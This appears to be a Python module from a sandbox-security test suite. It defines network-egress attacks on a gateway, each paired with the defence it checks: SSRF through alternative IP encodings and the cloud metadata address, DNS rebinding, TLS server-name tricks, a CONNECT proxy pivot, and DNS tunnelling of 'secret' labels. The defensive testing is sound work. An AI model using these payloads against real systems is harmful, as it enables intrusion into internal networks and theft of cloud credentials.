"""Ways to whom policy denies: other forms of addresses, names that lead elsewhere, other names over TLS, DNS itself.

These run in a sandbox behind a gateway, with an internet that knows the names and addresses below. Servers there say
`this is ADDRESS` to whoever reaches them.
"""

from __future__ import annotations

from atoll.attacks.record import Attack, Defence, Family

ONLY = ("www.example.com:443",)


class NetworkAttack(Attack, frozen=True, kw_only=True):
    """An attack by a sandbox that may reach what `allow` says."""

    allow: tuple[str, ...] = ("public",)


_REACH = """
import socket, ssl, struct

def reach(host, port, said=b"GET / HTTP/1.1\\r\\n\\r\\n", tls=None):
    try:
        with socket.create_connection((host, port), 30) as peer:
            if tls is not None:
                context = ssl._create_unverified_context()
                context.check_hostname = False
                peer = context.wrap_socket(peer, server_hostname=tls or None)
            peer.settimeout(30)
            peer.sendall(said)
            return peer.recv(1000).rpartition(b"\\r\\n")[2].decode(errors="replace").strip()
    except OSError as cause:
        return ""

def judge(found):
    print("BREACH" if any(found) else "HELD", [one for one in found if one])
"""

FORMS = """
judge(reach(host, 8000) for host in (
    "10.1.2.3", "0x0a010203", "167838211", "012.1.2.3", "10.66051", "::ffff:10.1.2.3", "169.254.169.254", "2852039166",
    "100.70.0.1", "203.0.113.9", "10.9.0.1", "10.9.0.2", "0xa9fea9fe", "::ffff:169.254.169.254",
))
"""
NAMES = """
names = "private", "metadata", "loopback", "mapped", "host", "documented"
judge(reach(name + ".example.org", 8000) for name in names)
"""
OWN = 'judge([reach("10.9.0.1", 8000), reach("host.example.org", 8000)])'
REBINDING = """
found = [reach("rebinding.example.org", 8000) for _ in range(8)]
judge(one for one in found if one and "93.184.215" not in one)
"""
OTHER_NAME = 'judge([reach("www.example.com", 443, tls="other.example.org")])'
NO_NAME = 'judge([reach("www.example.com", 443, tls="")])'
PROXY = 'judge([reach("www.example.com", 3128, b"CONNECT 10.1.2.3:8000 HTTP/1.1\\r\\n\\r\\n")])'
TUNNEL = """
def asked(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    question = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(30)
        peer.sendto(question, ("100.64.0.1", 53))
        return peer.recv(1000)

judge(name for name in ("secret.tunnel.example", "another.tunnel.example") if asked(name).endswith(ANSWER))
"""
ANSWER = "ANSWER = socket.inet_aton('93.184.215.15')\n"


def _attack(name: str, payload: str, *defences: Defence, allow: tuple[str, ...] = ("public",)) -> NetworkAttack:
    return NetworkAttack(name=name, family=Family.NETWORK, defences=defences, payload=_REACH + payload, allow=allow)


ATTACKS = (
    _attack("reach-private-addresses-in-other-forms", FORMS, Defence.PUBLIC_ONLY),
    _attack("reach-private-addresses-by-public-names", NAMES, Defence.PUBLIC_ONLY),
    _attack("reach-the-hosts-own-address", OWN, Defence.OWN_ADDRESSES, allow=("0.0.0.0/0", "*.example.org")),
    _attack("rebind-a-name-between-check-and-connect", REBINDING, Defence.ONE_LOOKUP),
    _attack("ask-for-another-name-over-tls", OTHER_NAME, Defence.SERVER_NAME, allow=ONLY),
    _attack("ask-for-no-name-over-tls", NO_NAME, Defence.SERVER_NAME, allow=ONLY),
    _attack("connect-through-another-port-of-an-allowed-host", PROXY, Defence.PORTS, allow=ONLY),
    _attack("tunnel-through-questions-of-dns", ANSWER + TUNNEL, Defence.OWN_ANSWERS, allow=ONLY),
)
